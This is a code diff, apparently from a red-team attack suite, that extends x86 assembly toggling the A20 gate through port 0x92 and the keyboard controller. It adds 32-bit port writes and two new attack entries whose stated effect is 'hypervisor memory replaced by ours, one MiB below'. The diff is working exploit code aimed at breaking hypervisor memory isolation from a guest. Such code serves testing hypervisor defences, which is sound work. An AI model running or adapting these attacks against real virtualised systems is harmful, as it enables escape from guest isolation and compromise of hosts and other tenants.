@@ -18,9 +18,9 @@
 #include "redteam/root/attack.h"
 
 /*
- * Position-independent. RDI: list of (port, byte) pairs, 16 bits each, to the first port 0; RSI: a
- * second one; RDX: what to look at between the two. No stack but the return address, which is read
- * when A20 is on again.
+ * Position-independent. RDI: list of (port, byte) pairs, 16 bits each, to the first port 0, with
+ * WIDE in the port for an OUT of 32 bits; RSI: a second one; RDX: what to look at between the two.
+ * No stack but the return address, which is read when A20 is on again.
  */
 asm(".pushsection .rodata, \"a\"\n"
     "a20_code:\n"
@@ -31,8 +31,12 @@ asm(".pushsection .rodata, \"a\"\n"
     "	test %edx, %edx\n"
     "	jz 2f\n"
     "	movzwl 2(%rdi), %eax\n"
-    "	out %al, %dx\n"
     "	add $4, %rdi\n"
+    "	btr $15, %edx\n"
+    "	jc 4f\n"
+    "	out %al, %dx\n"
+    "	jmp 1b\n"
+    "4:	out %eax, %dx\n"
     "	jmp 1b\n"
     "2:	dec %r10d\n"
     "	js 3f\n"
@@ -55,10 +59,15 @@ struct a20_ports {
 	u16 off[8], on[8];
 };
 
+#define WIDE 0x8000
+
 static const struct a20_ports a20_ways[] = {
 	{ { 0x92, 0x00 }, { 0x92, 0x02 } },
 	{ { 0x64, 0xd1, 0x60, 0xdd }, { 0x64, 0xd1, 0x60, 0xdf } },
 	{ { 0x64, 0xdd }, { 0x64, 0xdf } },
+	/* another command in between */
+	{ { 0x64, 0xd1, 0x64, 0xae, 0x60, 0xdd }, { 0x64, 0xd1, 0x60, 0xdf } },
+	{ { 0x64, 0xd1, WIDE | 0x60, 0xdd }, { 0x64, 0xd1, 0x60, 0xdf } },
 };
 
 #define CODE_INDEX 0
@@ -155,5 +164,7 @@ const struct attack a20_attacks[] = {
 	{ "a20-port92", "hypervisor memory replaced by ours, one MiB below", a20_off, 0 },
 	{ "a20-keyboard-output", "hypervisor memory replaced by ours, one MiB below", a20_off, 1 },
 	{ "a20-keyboard-command", "hypervisor memory replaced by ours, one MiB below", a20_off, 2 },
+	{ "a20-keyboard-split", "hypervisor memory replaced by ours, one MiB below", a20_off, 3 },
+	{ "a20-keyboard-wide", "hypervisor memory replaced by ours, one MiB below", a20_off, 4 },
 	{}
 };
